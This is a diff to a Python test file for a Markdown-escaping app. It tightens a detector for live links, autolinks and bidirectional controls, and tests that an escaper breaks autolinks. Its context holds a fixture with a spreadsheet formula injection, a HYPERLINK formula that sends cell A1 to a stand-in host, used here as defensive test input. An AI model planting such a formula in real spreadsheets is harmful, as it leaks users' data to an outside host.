@@ -37,12 +37,18 @@ FORMULA_COIN = '=HYPERLINK("http://ev.il/?x="&A1,"pwn")'
 BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")
 
 
+AUTOLINK = re.compile(r"(?i)https?://|www\.|mailto:|[\w.+-]+@[\w-]+\.[\w-]")  # what GFM links in plain text
+
+
 def live_markup(text: str) -> list[str]:
     """What in this Markdown source would draw as something other than text: an external link or
-    image, an autolink (a bare URL or www.), raw HTML, a bidirectional control. Backslash-escaped
-    characters are text; a relative link (the app's own pages) is fine."""
-    plain = re.sub(r"\\.", "", text)  # an escaped character is a literal
-    found = [m for m in ("](http", "](//", "![", "http://", "https://", "www.", "<a", "<img", "<b>") if m in plain]
+    image or raw HTML (backslash-escaped characters are literals), an autolink (GFM finds a bare URL,
+    `www.` or an e-mail in the text AFTER resolving escapes, so an escaped `http\\://` still links), a
+    bidirectional control. A relative link (the app's own pages) is fine."""
+    structural = re.sub(r"\\.", "", text)  # an escaped character is a literal
+    found = [m for m in ("](http", "](//", "![", "<a", "<img", "<b>") if m in structural]
+    resolved = re.sub(r"\\(.)", r"\1", text)  # the text GFM searches for autolinks
+    found += [f"autolink {m.group(0)!r}" for m in AUTOLINK.finditer(resolved)]
     return found + (["bidi control"] if BIDI.search(text) else [])
 
 
@@ -138,8 +144,10 @@ def test_a_markdown_coin_name_is_escaped(app, tables, monkeypatch, page):
 
 def test_md_text_escapes_every_markdown_character():
     assert fmt.md_text("[a](http://x) *b* _c_ `d` $e$ :red[f] #g\nh") == (
-        "\\[a\\]\\(http\\://x\\) \\*b\\* \\_c\\_ \\`d\\` \\$e\\$ \\:red\\[f\\] \\#g h"
+        "\\[a\\]\\(http\\:\u2060//x\\) \\*b\\* \\_c\\_ \\`d\\` \\$e\\$ \\:\u2060red\\[f\\] \\#g h"
     )
+    # GFM autolinks URLs and e-mails found in the text after escapes: a word joiner breaks each
+    assert fmt.md_text("www.x.io a@b.io HTTPS://x") == "www\u2060\\.x\\.io a@\u2060b\\.io HTTPS\\:\u2060//x"
     assert fmt.plot_text("<a href='x'>y</a>") == "&lt;a href='x'&gt;y&lt;/a&gt;"
 
 
